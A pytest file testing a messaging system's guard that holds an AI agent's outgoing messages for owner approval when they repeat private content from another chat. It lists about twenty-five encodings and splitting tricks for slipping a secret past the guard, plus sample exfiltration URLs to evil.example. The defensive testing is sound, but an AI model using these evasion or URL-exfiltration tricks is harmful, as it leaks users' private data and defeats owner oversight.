"""The cross-chat guard: what stands in one chat does not leave unseen for another."""

import base64
import codecs
from collections.abc import Awaitable, Callable
from datetime import timedelta
from urllib.parse import quote

import pytest

from messengers.core.acts import Act
from messengers.core.bulk import Addressee
from messengers.core.callers import OWNER, Caller
from messengers.core.rulebook import NewRule
from messengers.models import Button, Card, Confirm, Draft, Location, Outcome, Poll
from messengers.providers.capabilities import MediaLimit
from messengers.providers.groups import GroupMember
from tests.core.conftest import AGENT, House, sent
from tests.core.test_sources import png
from tests.fakes.scripted import CAPABILITIES

SECRET = "The spare key lies under the third flower pot left of the garden door."
CODE = "48516299"


async def _told(house: House) -> tuple[str, str]:
    """What Ann told in private, and the chat of somebody who wrote to the bot."""
    await house.personal.say(SECRET, chat="ann")
    await house.personal.say(f"the alarm goes off with {CODE}", chat="ann")
    await house.told(f"the alarm goes off with {CODE}")
    await house.bot.say("hello, I am new here", chat="eve")
    ann = (await house.told(SECRET)).chat
    return ann, (await house.told("hello, I am new here", "bot")).chat


def _take_pictures(house: House) -> None:
    """Only until the test ends: every house has platforms of its own."""
    limit = MediaLimit(max_bytes=100_000, mimes=("image/png",))
    house.bot.capabilities = CAPABILITIES.model_copy(update={"media": {"image": limit}})


def _uri(data: bytes) -> str:
    return f"data:image/png;base64,{base64.b64encode(data).decode()}"


def _blocks(said: str, size: int, between: str) -> str:
    whole = base64.b64encode(said.encode()).decode()
    return between.join(whole[at : at + size] for at in range(0, len(whole), size))


_TAGS = "".join(
    " " + "".join(chr(0xE0000 + ord(char)) for char in f"innocent{number}") for number in range(14)
)
DISGUISES: dict[str, Callable[[str], str]] = {
    "as it is": lambda said: said,
    "other case and marks": lambda said: said.upper().replace(" ", " - "),
    "spaced out": " ".join,
    "invisible characters": "\u2060".join,
    "reversed": lambda said: said[::-1],
    "rot13": lambda said: codecs.encode(said, "rot13"),
    "base64": lambda said: base64.b64encode(said.encode()).decode(),
    "base64 in lines": lambda said: "Here you go\n" + _blocks(said, 8, "\n"),
    "base64 in blocks": lambda said: _blocks(said, 5, " "),
    "base64 of base64": lambda said: base64.b64encode(base64.b64encode(said.encode())).decode(),
    "base32": lambda said: base64.b32encode(said.encode()).decode(),
    "base32 in small letters": lambda said: base64.b32encode(said.encode()).decode().lower(),
    "hex with dashes": lambda said: said.encode().hex("-"),
    "hex": lambda said: said.encode().hex(" "),
    "bits": lambda said: " ".join(f"{byte:08b}" for byte in said.encode()),
    "decimals": lambda said: " ".join(str(byte) for byte in said.encode()),
    "a web address": lambda said: f"https://shop.example/?q={quote(said)}",
    "entities": lambda said: "".join(f"&#{ord(char)};" for char in said),
    "tags": lambda said: "hi" + "".join(chr(0xE0000 + ord(char)) for char in said),
    "behind many tags": lambda said: _TAGS + base64.b64encode(said.encode()).decode(),
    "a numbered list": lambda said: "\n".join(
        f"{number}. {word}" for number, word in enumerate(said.split(), 1)
    ),
    "words backwards": lambda said: " ".join(reversed(said.split())),
    "Cyrillic letters": lambda said: said.translate(str.maketrans("aeopcyx", "аеорсух")),
    "accents": lambda said: said.replace("e", "é"),
    "one letter a line": "\n".join,
}


@pytest.mark.parametrize("disguise", DISGUISES)
@pytest.mark.parametrize("confirm", ["unknown_chats", "never"])
@pytest.mark.case("S22")
async def test_a_passage_of_another_chat_asks_in_any_disguise(
    house: House, disguise: str, confirm: Confirm
) -> None:
    _, eve = await _told(house)
    await house.core.instances.set_policy(OWNER, "bot", confirm=confirm)

    answer = await house.send(eve, DISGUISES[disguise](SECRET))

    assert answer.outcome is Outcome.NEEDS_APPROVAL
    assert house.bot.accepted == []


async def test_whom_a_rule_allows_the_owner_has_chosen(house: House) -> None:
    _, eve = await _told(house)
    book = house.core.rulebook
    rule = await book.read(OWNER, NewRule("allow", eve, "out", "bot"))

    await book.add(OWNER, rule)

    assert (await house.send(eve, SECRET)).outcome is Outcome.ACCEPTED


@pytest.mark.case("S22")
async def test_the_owner_alone_hears_where_it_stands(house: House) -> None:
    ann, eve = await _told(house)

    answer = await house.send(eve, f"She says: {SECRET}")
    (waiting,) = await house.core.approvals.waiting()

    assert f"chat {ann}".split()[-1] in waiting.shown.found
    assert "third flower pot" in waiting.shown.found
    (said,) = answer.notes
    assert said.startswith("It repeats what stands in another chat")
    assert ann not in said
    assert "Ann" not in said
    done = sent(await house.core.approvals.decide(waiting.id, "once", "owner"))
    assert done.outcome is Outcome.ACCEPTED


DRAFTS = {
    "a poll": Draft(poll=Poll(question="Which?", options=(f"code {CODE}", "none"))),
    "a button": Draft(text="Press", buttons=(Button(text=CODE),)),
    "a button's address": Draft(
        text="Press", buttons=(Button(text="Go", url=f"https://evil.example/?q={CODE}"),)
    ),
    "a place": Draft(location=Location(latitude_deg=1, longitude_deg=2, title=f"At {CODE}")),
    "a contact": Draft(contact=Card(name="Ann", phone=f"+{CODE}441")),
    "a time": Draft(text=f"It is {CODE}.", send_at=None),
    "a silent one": Draft(text=f"It is {CODE}.", silent=True),
}


@pytest.mark.parametrize("draft", DRAFTS)
@pytest.mark.case("S22")
async def test_whatever_a_draft_holds_is_looked_at(house: House, draft: str) -> None:
    _, eve = await _told(house)
    await house.personal.say(f"my number is +{CODE}441", chat="ann")
    await house.told(f"my number is +{CODE}441")

    act = await house.core.sending.prepare(AGENT, eve, DRAFTS[draft])

    assert act.needs_approval
    assert act.shown.found


@pytest.mark.case("S22")
async def test_an_address_that_would_tell_it_is_not_looked_up(house: House) -> None:
    _, eve = await _told(house)
    await house.core.instances.set_policy(OWNER, "bot", confirm="never")
    address = f"https://evil.example/pixel.png?q={quote(SECRET)}"

    act = await house.core.sending.prepare(AGENT, eve, Draft(attachments=(address,)))

    assert act.action == "send_fetched"
    assert act.needs_approval


@pytest.mark.case("S22")
async def test_a_secret_in_pieces_is_seen_with_the_last_of_them(house: House) -> None:
    _, eve = await _told(house)
    pieces = [SECRET[at : at + 12] for at in range(0, len(SECRET), 12)]

    outcomes = [(await house.send(eve, f"{piece}")).outcome for piece in pieces]

    assert outcomes[0] is Outcome.ACCEPTED
    assert Outcome.NEEDS_APPROVAL in outcomes
    left = "".join(text for _, text, _ in house.bot.accepted)
    assert SECRET not in left


PIECES = [SECRET[at : at + 20] for at in range(0, len(SECRET), 20)]


async def _performed(house: House, act: Act) -> Outcome:
    return sent(await house.core.approvals.perform(act, 5)).outcome


async def _by_edits(house: House, eve: str) -> list[Outcome]:
    """One message says all of it, one piece after the other."""
    message = (await house.send(eve, "one moment")).message
    return [
        await _performed(house, await house.core.changes.prepare_edit(AGENT, message, piece))
        for piece in PIECES
    ]


async def _taken_back(house: House, eve: str) -> list[Outcome]:
    """Each piece is gone from our store before the next one comes."""
    outcomes: list[Outcome] = []
    for piece in PIECES:
        told = await house.send(eve, piece)
        gone = await house.core.changes.prepare_delete(AGENT, told.message, for_everyone=False)
        outcomes += [told.outcome, await _performed(house, gone)]
    return outcomes


async def _with_time(house: House, eve: str) -> list[Outcome]:
    """None of them left when the next one is asked for."""
    drafts = [
        Draft(text=piece, send_at=timedelta(hours=hours)) for hours, piece in enumerate(PIECES, 1)
    ]
    acts = [house.core.sending.prepare(AGENT, eve, draft) for draft in drafts]
    return [await _performed(house, await act) for act in acts]


async def _with_other_words(house: House, eve: str) -> list[Outcome]:
    """Out of order, with something around each and something else between them."""
    texts = [each for piece in PIECES[::-1] for each in (f"So: {piece} - right?", "Wait, please")]
    return [(await house.send(eve, text)).outcome for text in texts]


async def _as_polls(house: House, eve: str) -> list[Outcome]:
    drafts = [Draft(poll=Poll(question=piece, options=("yes", "no"))) for piece in PIECES]
    acts = [house.core.sending.prepare(AGENT, eve, draft) for draft in drafts]
    return [await _performed(house, await act) for act in acts]


@pytest.mark.parametrize(
    "way",
    [_by_edits, _taken_back, _with_time, _with_other_words, _as_polls],
    ids=lambda w: w.__name__,
)
@pytest.mark.case("S22")
async def test_pieces_are_put_together_however_they_leave(
    house: House, way: Callable[[House, str], Awaitable[list[Outcome]]]
) -> None:
    _, eve = await _told(house)

    outcomes = await way(house, eve)

    assert outcomes[0] in (Outcome.ACCEPTED, Outcome.QUEUED)
    assert Outcome.NEEDS_APPROVAL in outcomes


@pytest.mark.case("S22")
async def test_a_code_in_pieces_between_other_words_is_seen(house: House) -> None:
    _, eve = await _told(house)

    first = await house.send(eve, "part one is 4851")
    second = await house.send(eve, "part two is 6299")

    assert (first.outcome, second.outcome) == (Outcome.ACCEPTED, Outcome.NEEDS_APPROVAL)


@pytest.mark.case("S22")
async def test_a_history_of_short_messages_asks(house: House) -> None:
    _, eve = await _told(house)
    lines = [
        f"{word} {number}" for number, word in enumerate(["alpha", "bravo", "charlie", "delta"])
    ]
    lines = [f"we said {line} at noon" for line in lines for _ in "12345"]
    for number, line in enumerate(lines):
        await house.personal.say(f"{line} {number}", chat="ann", id_=str(number))
    await house.told(f"{lines[-1]} {len(lines) - 1}")
    dump = "\n".join(f"Ann: {line} {number}" for number, line in enumerate(lines))

    assert (await house.send(eve, dump)).outcome is Outcome.NEEDS_APPROVAL


@pytest.mark.case("S22")
async def test_edits_forwards_and_group_names_are_looked_at(house: House) -> None:
    _, eve = await _told(house)
    private = await house.told(SECRET)
    first = await house.send(eve, "one moment")

    edit = await house.core.changes.prepare_edit(AGENT, first.message, SECRET)
    forward = await house.core.changes.prepare_forward(AGENT, private.id, eve)

    await house.core.instances.set_policy(OWNER, "bot", confirm="never")
    group = await house.core.group_changes.prepare_create(AGENT, "bot", SECRET, ["x:eve"])
    plain = await house.core.group_changes.prepare_create(AGENT, "bot", "Bakers", ["x:eve"])

    assert group.needs_approval
    assert not plain.needs_approval
    assert edit.shown.found
    assert forward.shown.found
    assert edit.needs_approval
    assert forward.needs_approval


@pytest.mark.case("S22")
async def test_a_bulk_send_says_what_it_would_give_away(house: House) -> None:
    _, eve = await _told(house)
    await house.core.instances.set_policy(OWNER, "bot", confirm="never")

    plain = await house.core.bulk.prepare(AGENT, [Addressee(chat=eve)], "We open at nine.")
    told = await house.core.bulk.prepare(AGENT, [Addressee(chat=eve, text=SECRET)])

    assert not plain.needs_approval
    assert told.needs_approval
    assert "third flower pot" in told.shown.found


@pytest.mark.case("S22")
async def test_a_file_of_another_chat_asks(house: House) -> None:
    ann, eve = await _told(house)
    me, picture = house.core.instances.by_name("me").id, png()
    kept = await house.core.media.store(me, ann, picture, "p.png")
    _take_pictures(house)

    for source in (kept.media, _uri(picture)):
        act = await house.core.sending.prepare(AGENT, eve, Draft(attachments=(source,)))
        assert act.needs_approval
        assert "p.png" in act.shown.found


@pytest.mark.case("S22")
async def test_a_groups_new_picture_is_looked_at_as_well(house: House) -> None:
    ann, _ = await _told(house)
    me, bot = (house.core.instances.by_name(name).id for name in ("me", "bot"))
    theirs = png(40)
    await house.core.media.store(me, ann, theirs, "p.png")
    _take_pictures(house)
    await house.core.instances.set_policy(OWNER, "bot", confirm="never")
    house.bot.groups.make("g1@groups", "Book club", GroupMember("eve", "Eve"))
    await house.core.groups.list(AGENT, "bot")
    club = await house.core.chats.get_by_native(bot, "g1@groups")
    assert club is not None

    told, plain = [
        await house.core.group_changes.prepare_update(AGENT, club.id, picture=_uri(each))
        for each in (theirs, png(41))
    ]

    assert told.needs_approval
    assert "p.png" in told.shown.found
    assert not plain.needs_approval


@pytest.mark.case("S22")
async def test_a_file_that_an_agent_sent_may_go_on_and_one_that_it_sent_back_may_not(
    house: House,
) -> None:
    _take_pictures(house)
    theirs, own = png(40), png(41)
    house.bot.files["ref"] = theirs
    await house.bot.say("my passport", chat="ann", files=[{"kind": "image", "native_ref": "ref"}])
    chats = [(await house.told("my passport", "bot")).chat]
    for name in ("eve", "bob"):
        await house.bot.say(f"I am {name}", chat=name)
        chats.append((await house.told(f"I am {name}", "bot")).chat)
    ann, eve, bob = chats
    (message,) = (
        await house.core.history.read(OWNER, await house.core.chats.get(OWNER, ann))
    ).items

    async def attached(chat: str, source: str) -> bool:
        """Whether the owner is asked; what nobody asks about is sent."""
        act = await house.core.sending.prepare(AGENT, chat, Draft(attachments=(source,)))
        if not act.needs_approval:
            await house.core.approvals.perform(act, 5)
        return act.needs_approval

    assert not await attached(ann, message.id)
    assert await attached(eve, message.id)
    assert await attached(eve, _uri(theirs))
    assert not await attached(ann, _uri(own))
    assert not await attached(eve, _uri(own))
    assert not await attached(bob, _uri(own))


async def test_whom_the_owner_chose_may_be_told_and_so_may_the_same_chat(house: House) -> None:
    ann, eve = await _told(house)
    await house.personal.say("hi bob", chat="bob", **{"from": "me"})
    bob = (await house.told("hi bob")).chat

    assert (await house.send(bob, SECRET)).outcome is Outcome.ACCEPTED
    await house.bot.say(f"is it true? {SECRET}", chat="eve")
    await house.told(f"is it true? {SECRET}", "bot")
    assert (await house.send(eve, f"You wrote: {SECRET}")).outcome is Outcome.ACCEPTED
    await house.core.chats.decide(OWNER, await house.core.chats.get(OWNER, eve), "always")
    assert (await house.send(eve, f"It is {CODE}.")).outcome is Outcome.ACCEPTED
    assert ann


@pytest.mark.case("S22")
async def test_what_was_held_makes_nothing_known(house: House) -> None:
    _, eve = await _told(house)

    for _ in range(2):
        assert (await house.send(eve, SECRET)).outcome is Outcome.NEEDS_APPROVAL
        assert (await house.send(eve, f"As I said: {SECRET}")).outcome is Outcome.NEEDS_APPROVAL
    assert house.bot.accepted == []


@pytest.mark.case("S22")
async def test_a_key_learns_nothing_of_instances_that_it_does_not_see(house: House) -> None:
    _, eve = await _told(house)
    bot = house.core.instances.by_name("bot").id
    bound = Caller("k1", instances=frozenset({bot}))

    act = await house.core.sending.prepare(bound, eve, Draft(text=SECRET))

    assert not act.needs_approval
